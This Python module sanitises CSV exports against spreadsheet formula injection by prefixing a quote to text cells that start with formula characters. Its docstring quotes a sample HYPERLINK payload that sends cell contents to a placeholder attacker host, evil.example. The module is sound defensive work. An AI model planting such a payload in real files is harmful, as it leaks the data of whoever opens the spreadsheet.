"""CSV for people who open it in a spreadsheet: neutralise formula injection (CWE-1236) in text cells.

Evaluations, late-line attachments and the quarantine file carry raw ERP text (supplier names, PO numbers,
the cell a row was quarantined for). Excel, LibreOffice and Google Sheets treat a cell starting with ``=``,
``+``, ``-`` or ``@`` as a formula, and a leading tab or carriage return can hide one, so an ERP field such as
``=HYPERLINK("http://evil.example/?"&A1,"Click")`` would run when an officer opens the file. Every such text
cell gets a leading single quote ``'``, which spreadsheets read as "this is text" (OWASP's advice).
"""

from __future__ import annotations

from pathlib import Path

import polars as pl

__all__ = ["FORMULA_START", "spreadsheet_safe", "write_csv_safely", "csv_bytes"]

FORMULA_START = r"^[=+\-@\t\r]"  # a text cell starting with one of these is prefixed with a single quote


def spreadsheet_safe(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with a ``'`` put in front of every String cell that starts with ``= + - @``, a tab or a CR.

    Vectorised: one regular-expression replace per String column. Columns of any other dtype (numbers, dates,
    booleans, lists, and also Categorical/Enum) are returned untouched, nulls stay null, and the column order,
    names and dtypes are unchanged.

    Trade-off: a number held as *text* is treated like any other text, so a String cell ``"-5"`` (for example
    the raw value of a quarantined cell) becomes ``"'-5"`` and a spreadsheet shows it as the text ``-5``, not the
    number -5; a program reading the CSV back sees the quote. Numbers in numeric columns are never touched.
    Keep numeric data in numeric columns if it must stay a number in the spreadsheet.
    """
    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    if not text:
        return frame
    return frame.with_columns(pl.col(text).str.replace(FORMULA_START, "'$0"))


def write_csv_safely(frame: pl.DataFrame, path: str | Path) -> None:
    """Write ``frame`` as UTF-8 CSV to ``path`` after :func:`spreadsheet_safe`."""
    spreadsheet_safe(frame).write_csv(path)


def csv_bytes(frame: pl.DataFrame) -> bytes:
    """``frame`` as UTF-8 CSV bytes (for a mail attachment) after :func:`spreadsheet_safe`."""
    return spreadsheet_safe(frame).write_csv().encode("utf-8")
